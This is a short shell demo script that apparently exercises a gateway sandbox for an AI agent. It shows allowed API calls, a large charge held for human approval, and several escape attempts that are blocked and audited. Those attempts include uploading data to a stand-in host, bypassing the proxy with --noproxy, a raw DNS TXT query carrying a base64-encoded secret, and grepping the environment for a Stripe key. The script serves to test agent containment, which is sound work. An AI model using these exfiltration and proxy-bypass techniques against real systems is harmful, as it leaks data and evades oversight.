#!/bin/sh
# What the agent does: through HTTPS_PROXY (set by Agent Space in the cell), and around it.
say() { printf '\n  %s\n    ' "$1"; }
say "score customer c-001 (allowed)"
curl -sS -X POST -H 'content-type: application/json' -d '{"customer":"c-001"}' https://scoring.internal.example/v1/score
say "list charges (brokered: the gateway adds the Stripe key; the agent never has it)"
curl -sS https://api.stripe.com/v1/charges
say "charge 20 EUR (allowed)"
curl -sS -X POST -H 'content-type: application/json' -d '{"amount":20,"currency":"eur"}' https://api.stripe.com/v1/charges
say "charge 5000 EUR (held until a person approves; bob approves it)"
curl -sS -X POST -H 'content-type: application/json' -d '{"amount":5000,"currency":"eur"}' https://api.stripe.com/v1/charges
say "delete the scoring model (method not allowed)"
curl -sS -X DELETE https://scoring.internal.example/v1/score
say "send data to paste.example (host not allowed)"
curl -sS https://paste.example/upload
say "bypass the proxy (intercepted anyway: decided and brokered the same way)"
curl -sS -m 5 --noproxy '*' https://api.stripe.com/v1/charges 2>&1
say "bypass the proxy to a host not allowed (the cell's resolver knows no such name)"
curl -sS -m 5 --noproxy '*' https://paste.example/upload 2>&1
say "exfiltrate through DNS (TXT lookup of an encoded name, refused and audited)"
python3 -c "import socket,struct; q=struct.pack('!6H',7,256,1,0,0,0)+b''.join(bytes([len(l)])+l.encode() for l in 'c2VjcmV0LWN1c3RvbWVyLWRhdGE.api.stripe.com'.split('.'))+b'\\0'+struct.pack('!HH',16,1); u=socket.socket(2,2); u.settimeout(3); u.sendto(q,('1.1.1.1',53)); r=u.recv(512); print('rcode', r[3]&15, '(5 = refused)')"
say "read the Stripe key from the environment"
env | grep -i -e stripe -e '^sk_' || echo "(not there)"
echo
